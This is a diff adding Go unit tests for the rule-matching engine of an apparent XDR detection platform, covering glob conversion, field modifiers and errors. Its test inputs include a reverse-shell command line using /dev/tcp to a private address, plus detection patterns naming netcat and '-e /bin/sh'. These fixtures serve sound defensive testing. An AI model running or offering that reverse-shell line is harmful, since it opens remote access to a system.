@@ -0,0 +1,165 @@
+package detection
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/luigi/xdr-platform/ingestion/models"
+)
+
+func TestGlobToRegexp(t *testing.T) {
+	tests := []struct {
+		value       string
+		wantPattern string
+		wantLiteral string
+	}{
+		{"plain", "", "plain"},
+		{"a.b+c", "", "a.b+c"},
+		{"*", "(?s)^.*$", ""},
+		{"/tmp/*", `(?s)^/tmp/.*$`, ""},
+		{"a?c", `(?s)^a.c$`, ""},
+		{`\*`, "", "*"},
+		{`a\?b`, "", "a?b"},
+		{`C:\\*`, `(?s)^C:\\.*$`, ""},
+		{`C:\Windows`, "", `C:\Windows`},
+		{`trailing\`, "", `trailing\`},
+		{`\\\*x*`, `(?s)^\\\*x.*$`, ""},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.value, func(t *testing.T) {
+			pattern, literal := globToRegexp(tt.value)
+			if pattern != tt.wantPattern || literal != tt.wantLiteral {
+				t.Errorf("globToRegexp(%q) = (%q, %q), want (%q, %q)",
+					tt.value, pattern, literal, tt.wantPattern, tt.wantLiteral)
+			}
+		})
+	}
+}
+
+func TestPatternMatcher(t *testing.T) {
+	tests := []struct {
+		transform string
+		value     string
+		cased     bool
+		input     string
+		want      bool
+	}{
+		{"", "bash", false, "bash", true},
+		{"", "bash", false, "BASH", true},
+		{"", "bash", true, "BASH", false},
+		{"", "bash", false, "/bin/bash", false},
+		{"contains", "/dev/tcp/", false, "bash -i >& /dev/tcp/10.0.0.1/4444", true},
+		{"contains", "/dev/tcp/", false, "/dev/udp/", false},
+		{"startswith", "/tmp/", false, "/TMP/x", true},
+		{"startswith", "/tmp/", true, "/TMP/x", false},
+		{"endswith", "/nc", false, "/usr/bin/nc", true},
+		{"endswith", "/nc", false, "/usr/bin/ncat", false},
+		{"", "/usr/*/python?", false, "/usr/bin/python3", true},
+		{"", "/usr/*/python?", false, "/usr/bin/python", false},
+		{"", "*", false, "line\nbreak", true},
+
+		// Les jokers échappés sont littéraux
+		{"", `what\?`, false, "what?", true},
+		{"", `what\?`, false, "whatX", false},
+		{"contains", `\*`, false, "a*b", true},
+		{"contains", `\*`, false, "ab", false},
+		{"endswith", `\\`, false, `C:\`, true},
+
+		// Les caractères spéciaux des expressions régulières ne le sont pas
+		{"contains", "a.b", false, "axb", false},
+		{"", "(x)*", false, "(x)yz", true},
+	}
+
+	for _, tt := range tests {
+		name := tt.transform + ":" + tt.value + "/" + tt.input
+		t.Run(name, func(t *testing.T) {
+			matcher, err := patternMatcher(tt.transform, tt.value, tt.cased)
+			if err != nil {
+				t.Fatalf("patternMatcher(%q, %q) returned error: %v", tt.transform, tt.value, err)
+			}
+			if got := matcher(tt.input); got != tt.want {
+				t.Errorf("|%s %q (cased: %t) on %q = %t, want %t", tt.transform, tt.value, tt.cased, tt.input, got, tt.want)
+			}
+		})
+	}
+}
+
+func TestFieldMatcher(t *testing.T) {
+	doc := document{
+		"hostname": "web-01",
+		"raw_data": map[string]interface{}{
+			"network": map[string]interface{}{
+				"dest_ip":   "10.1.2.3",
+				"dest_port": float64(4444),
+			},
+			"args":  []interface{}{"-i", "-e", "/bin/sh"},
+			"empty": "",
+		},
+	}
+
+	tests := []struct {
+		key  string
+		raw  interface{}
+		want bool
+	}{
+		{"Hostname", "WEB-*", true},
+		{"Hostname|cased", "WEB-*", false},
+		{"DestinationIp|cidr", "10.0.0.0/8", true},
+		{"DestinationIp|cidr", []interface{}{"192.168.0.0/16", "172.16.0.0/12"}, false},
+		{"DestinationPort|gte", 1024, true},
+		{"DestinationPort|lt", float64(4444), false},
+		{"DestinationPort|lte", "4444", true},
+		{"DestinationPort", 4444, true},
+		{"DestinationIp|re", `^10\.`, true},
+		{"args", []interface{}{"-x", "-e"}, true},
+		{"args|all", []interface{}{"-i", "-e"}, true},
+		{"args|all", []interface{}{"-i", "-x"}, false},
+		{"args|contains|all", []interface{}{"sh", "bin"}, true},
+		{"empty", nil, true},
+		{"missing", nil, true},
+		{"hostname", nil, false},
+		{"missing|exists", false, true},
+		{"hostname|exists", true, true},
+		{"missing", "*", false},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.key, func(t *testing.T) {
+			fm, err := newFieldMatcher(tt.key, tt.raw, models.EventTypeNetwork)
+			if err != nil {
+				t.Fatalf("newFieldMatcher(%q, %v) returned error: %v", tt.key, tt.raw, err)
+			}
+			if got := fm.match(doc); got != tt.want {
+				t.Errorf("%s: %v = %t, want %t", tt.key, tt.raw, got, tt.want)
+			}
+		})
+	}
+}
+
+func TestNewFieldMatcherErrors(t *testing.T) {
+	tests := []struct {
+		key     string
+		raw     interface{}
+		wantErr string
+	}{
+		{"Image|base64", "x", `unsupported modifier "base64"`},
+		{"Image|exists", "yes", "exists expects true or false"},
+		{"Image", []interface{}{"a", nil}, "null is only allowed as a single value"},
+		{"Image|re", "(", "invalid regular expression"},
+		{"SourceIp|cidr", "10.0.0.1", "invalid CIDR"},
+		{"ProcessId|gt", "many", `invalid number "many" for |gt`},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.key, func(t *testing.T) {
+			_, err := newFieldMatcher(tt.key, tt.raw, models.EventTypeProcess)
+			if err == nil {
+				t.Fatalf("newFieldMatcher(%q, %v) succeeded, want error containing %q", tt.key, tt.raw, tt.wantErr)
+			}
+			if !strings.Contains(err.Error(), tt.wantErr) {
+				t.Errorf("newFieldMatcher(%q, %v) error = %q, want it to contain %q", tt.key, tt.raw, err, tt.wantErr)
+			}
+		})
+	}
+}